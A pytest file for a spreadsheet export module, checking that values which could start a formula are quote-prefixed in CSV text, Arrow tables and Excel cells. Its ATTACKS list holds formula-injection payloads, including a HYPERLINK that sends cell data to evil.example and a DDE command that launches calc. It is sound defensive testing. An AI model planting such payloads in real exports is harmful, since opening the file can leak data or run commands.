"""Files a spreadsheet opens: no value a member sent runs as a formula."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from commontable.spreadsheets import append_row, csv_text, new_workbook, safe_table, safe_text

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_text_that_could_start_a_formula_is_quoted(value: str) -> None:
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-0.5", "-1e-3", "Cascade Health", "", "a=b"])
def test_negative_numbers_and_plain_text_are_left_as_they_are(value: str) -> None:
    assert safe_text(value) == value


def test_values_that_are_not_text_are_left_as_they_are() -> None:
    assert safe_text(-3) == -3
    assert safe_text(None) is None


def test_a_csv_quotes_every_risky_value_and_writes_none_empty() -> None:
    text = csv_text(["name", "rate"], [[ATTACKS[0], -0.25], [None, 1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + ATTACKS[0], "-0.25"]
    assert rows[2] == ["", "1"]


def test_a_table_quotes_its_text_columns_column_wise() -> None:
    table = pa.table({"name": [*ATTACKS, "-7", "Plain", None], "n": list(range(9))})
    names = safe_table(table)["name"].to_pylist()
    assert names[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert names[len(ATTACKS) :] == ["-7", "Plain", None]
    assert safe_table(table)["n"].to_pylist() == list(range(9))


def test_an_excel_text_cell_is_text_never_a_formula() -> None:
    book, sheet = new_workbook()
    append_row(sheet, [ATTACKS[0], -3])
    out = io.BytesIO()
    book.save(out)
    written = load_workbook(io.BytesIO(out.getvalue())).active
    assert written is not None
    text, number = written["A1"], written["B1"]
    assert (text.value, text.data_type, text.quotePrefix) == (ATTACKS[0], "s", True)
    assert (number.value, number.data_type) == (-3, "n")
